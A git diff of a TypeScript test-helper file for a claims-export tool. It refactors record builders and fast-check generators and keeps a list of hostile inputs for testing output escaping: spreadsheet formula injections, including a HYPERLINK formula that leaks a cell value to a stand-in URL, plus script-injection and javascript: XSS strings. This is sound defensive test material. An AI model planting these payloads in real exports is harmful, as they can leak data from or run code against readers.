@@ -3,7 +3,7 @@ import fc from "fast-check";
 import { readDocument } from "../../src/app.ts";
 import type { Claim } from "../../src/claims/index.ts";
 import { exportClaims, type ExportFormat } from "../../src/export/formats.ts";
-import { REVIEWS, type DocumentRef, type ExportOptions, type ExportRecord, type Records } from "../../src/export/record.ts";
+import { REVIEWS, type DocumentRef, type ExportOptions, type ExportRecord, type Records, type Review } from "../../src/export/record.ts";
 import { readInput } from "../../src/intake/read-input.ts";
 import { claimOf } from "../cli/readings.ts";
 import { anyText } from "../text/any-text.ts";
@@ -18,14 +18,17 @@ export async function exampleRecords(): Promise<ExportRecord[]> {
   for await (const item of readInput(EXAMPLE)) {
     if (item.kind === "issue") throw new Error(item.issue.message);
     const { document: { text: _, ...document }, claims } = await readDocument(item.document);
-    for (const claim of claims) records.push({ id: idOf(records.length), document, claim, review: REVIEWS[records.length % 4] ?? "unreviewed" });
+    for (const claim of claims) {
+      records.push({ id: idOf(records.length), document, claim, review: REVIEWS[records.length % 4] ?? "unreviewed" });
+    }
   }
   return records;
 }
 
 /** A record made by hand. */
-export function recordOf(claim: Partial<Claim> = {}, document: Partial<DocumentRef> = {}, review: ExportRecord["review"] = "unreviewed"): ExportRecord {
-  const whole: DocumentRef = { id: "a.txt", sha256: "0".repeat(64), published: "2023-10-31", lang: "en", title: null, outlet: null, author: null, url: null, ...document };
+export function recordOf(claim: Partial<Claim> = {}, document: Partial<DocumentRef> = {}, review: Review = "unreviewed"): ExportRecord {
+  const { sha256, published, lang } = { sha256: "0".repeat(64), published: "2023-10-31", lang: "en" };
+  const whole: DocumentRef = { id: "a.txt", sha256, published, lang, title: null, outlet: null, author: null, url: null, ...document };
   return { id: idOf(1), document: whole, claim: claimOf(claim), review };
 }
 
@@ -39,7 +42,8 @@ export async function exported(format: ExportFormat, records: Records, options: 
 
 /** What somebody who wants to harm a reader of the export would put into a report. */
 export const HOSTILE = [
-  "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("http://example.org/?"&A1,"x")', "a;=1+1", 'a;"=1+1', "a\n=1+1", " =1+1", "'=1", "''", "＝1",
+  "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("http://example.org/?"&A1,"x")',
+  "a;=1+1", 'a;"=1+1', "a\n=1+1", " =1+1", "'=1", "''", "＝1",
   'say "no"', '"', '""', "a,b", "a\r\nb", "\u202eevil", "__proto__", "constructor", "\ud800", "x\udc00y", "\u0000", "\u2028", "\ufeff=1",
   "</script><script>alert(1)</script>", "<!--", "javascript:alert(1)", "https://user:secret@example.org/", "2023-13-45", "toString",
 ] as const;
@@ -50,7 +54,8 @@ const maybe = <T>(arbitrary: fc.Arbitrary<T>): fc.Arbitrary<T | null> => fc.opti
 const anyClaim: fc.Arbitrary<Claim> = fc.record({
   force: maybe(text), unitName: maybe(text), place: maybe(text), country: fc.constantFrom(null, "BY", "UA"), otherPlace: maybe(text),
   quantity: maybe(fc.record({
-    low: maybe(fc.nat()), high: maybe(fc.nat()), point: maybe(fc.nat()), modifier: fc.constantFrom("exact", "under", "share"), unit: fc.constantFrom("personnel", "tank"), words: text,
+    low: maybe(fc.nat()), high: maybe(fc.nat()), point: maybe(fc.nat()), words: text,
+    modifier: fc.constantFrom("exact", "under", "share"), unit: fc.constantFrom("personnel", "tank"),
   })),
   source: maybe(fc.record({ person: maybe(text), role: maybe(text), organisation: maybe(text) })),
   via: fc.array(text, { maxLength: 3 }), said: maybe(text), asOf: maybe(text), polarity: fc.constantFrom("affirmed", "denied"),
@@ -59,11 +64,13 @@ const anyClaim: fc.Arbitrary<Claim> = fc.record({
 
 const anyDocument: fc.Arbitrary<DocumentRef> = fc.record({
   id: text, sha256: fc.stringMatching(/^[0-9a-f]{64}$/), title: maybe(text), outlet: maybe(text), author: maybe(text),
-  url: maybe(fc.oneof(text, fc.webUrl())), published: maybe(fc.oneof(text, fc.constantFrom("2023", "2023-10", "2023-10-31"))), lang: maybe(fc.oneof(text, fc.constant("be-Latn"))),
+  url: maybe(fc.oneof(text, fc.webUrl())), lang: maybe(fc.oneof(text, fc.constant("be-Latn"))),
+  published: maybe(fc.oneof(text, fc.constantFrom("2023", "2023-10", "2023-10-31"))),
 });
+
+const anyPage = fc.tuple(anyDocument, fc.array(fc.record({ claim: anyClaim, review: fc.constantFrom(...REVIEWS) }), { minLength: 1, maxLength: 3 }));
 
 /** Records of a few documents, one document after the other, with anything that a string can hold. */
 export const anyRecords: fc.Arbitrary<ExportRecord[]> = fc
-  .uniqueArray(anyDocument, { selector: ({ sha256 }) => sha256, maxLength: 3 })
-  .chain((documents) => fc.tuple(...documents.map((document) => fc.array(fc.tuple(anyClaim, fc.constantFrom(...REVIEWS)), { minLength: 1, maxLength: 3 }).map((claims) => ({ document, claims })))))
-  .map((documents) => documents.flatMap(({ document, claims }) => claims.map(([claim, review]) => ({ document, claim, review }))).map((record, i) => ({ id: idOf(i), ...record })));
+  .uniqueArray(anyPage, { selector: ([{ sha256 }]) => sha256, maxLength: 3 })
+  .map((pages) => pages.flatMap(([document, claims]) => claims.map((claim) => ({ document, ...claim }))).map((record, i) => ({ id: idOf(i), ...record })));
